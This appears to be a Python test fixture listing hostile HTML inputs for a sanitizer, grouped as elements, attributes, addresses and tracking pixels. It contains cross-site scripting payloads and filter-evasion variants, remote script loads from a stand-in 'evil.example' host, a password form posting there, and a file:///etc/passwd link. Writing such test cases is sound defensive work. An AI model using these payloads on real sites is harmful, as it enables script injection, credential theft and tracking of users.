"""Markup that would act in a careless page, of our own writing: by name, what a source may send in any of its fields.

`TRACKER` is a host of whose pictures none may be asked for.
"""

from __future__ import annotations

TRACKER = "https://tracker.example"
CALL = "alert(1)"

ELEMENTS = {
    "script": f"<script>{CALL}</script>",
    "script from elsewhere": "<script src=https://evil.example/a.js></script>",
    "script in capitals": f"<ScRiPt>{CALL}</sCrIpT>",
    "script with a slash": f"<script/x>{CALL}</script>",
    "script unclosed": f"<script>{CALL}",
    "script inside a script's name": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script as module": f"<script type=module>{CALL}</script>",
    "script behind a null": f"<scr\x00ipt>{CALL}</script>",
    "script behind a bad comment": f"<!--><script>{CALL}</script>-->",
    "script behind a bang comment": f"<!-- --!><script>{CALL}</script>",
    "script behind a cdata section": f"<![CDATA[><script>{CALL}</script>]]>",
    "script behind an instruction": f"<?xml ?><script>{CALL}</script>",
    "script ends a title": f"</title><script>{CALL}</script>",
    "script ends a style sheet": f"</style><script>{CALL}</script>",
    "script ends a text field": f"</textarea></noscript></xmp><script>{CALL}</script>",
    "script in a template": f"<template><script>{CALL}</script></template>",
    "style sheet": "<style>body{background:url(https://evil.example/x)}</style>",
    "style sheet from elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "imported style sheet": "<style>@import 'https://evil.example/x.css';</style>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "frame": "<iframe src=https://evil.example/></iframe>",
    "frame of its own": f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "frame set": "<frameset><frame src=https://evil.example/></frameset>",
    "object": "<object data=https://evil.example/x.swf></object>",
    "embed": "<embed src=https://evil.example/x.swf>",
    "form": "<form action=https://evil.example/><input name=password><button>OK</button></form>",
    "input that takes the focus": f"<input autofocus onfocus={CALL}>",
    "button of a form elsewhere": f"<button form=x formaction=javascript:{CALL}>x</button>",
    "video": f"<video src=x onerror={CALL} autoplay></video>",
    "audio": f"<audio><source onerror={CALL} src=x></audio>",
    "dialog": "<dialog open>your session has ended</dialog>",
    "marquee": f"<marquee onstart={CALL}>x</marquee>",
    "math": f"<math><mtext><mglyph><style><img src=x onerror={CALL}></style></mglyph></mtext></math>",
    "drawing": f"<svg onload={CALL}><script>{CALL}</script></svg>",
    "drawing with html inside": f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "drawing that animates a link": f"<svg><a><animate attributeName=href values=javascript:{CALL} /></a></svg>",
    "parsed twice": f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    "table that lifts out": f"<table><td><svg><desc><td><script>{CALL}</script></desc></svg></td></table>",
    "custom element": f"<x-y onclick={CALL} tabindex=0>x</x-y>",
}
ATTRIBUTES = {
    "handler": f"<p onclick='{CALL}'>x</p>",
    "handler in capitals": f"<P ONMOUSEOVER={CALL}>x</P>",
    "handler behind a slash": f"<img/src='x'/onerror={CALL}>",
    "handler behind a line end": f"<img src=x\nonerror\n=\n{CALL}>",
    "handler behind a form feed": f"<img\x0csrc=x\x0conerror={CALL}>",
    "handler in half a tag": f"<img src=x onerror={CALL} ",
    "handler behind a quote": f"<img alt='\"' src=x onerror={CALL}>",
    "handler out of an attribute": f'"><img src=x onerror={CALL}><p title="',
    "handler out of an attribute in single quotes": f"' onmouseover='{CALL}",
    "handler of a toggle": f"<details open ontoggle={CALL}>x</details>",
    "style": "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>x</p>",
    "style that hides": "<p style=display:none>cheap pills</p>",
    "id of ours": "<p id=content class=skip>x</p>",
    "editable": "<p contenteditable tabindex=1 accesskey=s>x</p>",
}
ADDRESSES = {
    "script": f"<a href='javascript:{CALL}'>x</a>",
    "script in capitals": f"<a href='JaVaScRiPt:{CALL}'>x</a>",
    "script behind a blank": f"<a href=' &#1; javascript:{CALL}'>x</a>",
    "script with a tab": f"<a href='java&#9;script:{CALL}'>x</a>",
    "script with a line end": f"<a href='java\nscript&colon;{CALL}'>x</a>",
    "script in references": "<a href='&#x6A;avascript&#58;alert&lpar;1&rpar;'>x</a>",
    "script for another browser": f"<a href='vbscript:{CALL}'>x</a>",
    "data": f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    "data as picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>\">",
    "blob": "<a href=blob:https://evil.example/1>x</a>",
    "file": "<a href=file:///etc/passwd>x</a>",
    "picture of a script": f"<img src='javascript:{CALL}'>",
    "picture with other sources": "<img srcset='https://evil.example/2x.png 2x' src=x>",
    "picture as map": "<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>",
    "link that tells": "<a href=https://a.example/ ping=https://evil.example/ target=_top>x</a>",
    "citation": f"<blockquote cite='javascript:{CALL}'>x</blockquote>",
    "bare": f"javascript:{CALL}",
}
TRACKERS = {
    "one pixel": f"<img src={TRACKER}/a.gif width=1 height=1>",
    "one pixel high": f"<img src={TRACKER}/b.gif height=1>",
    "no size": f"<img src={TRACKER}/c.gif width=0 height=0>",
    "hidden": f"<img src={TRACKER}/d.gif style='display:none'>",
    "hidden by size": f"<img src={TRACKER}/e.gif style='width:1px;height:1px'>",
    "in a name": f"<img src={TRACKER}/pixel.gif>",
}
CASES = {
    f"{kind}: {name}": payload
    for kind, cases in (
        ("element", ELEMENTS),
        ("attribute", ATTRIBUTES),
        ("address", ADDRESSES),
        ("tracker", TRACKERS),
    )
    for name, payload in cases.items()
}
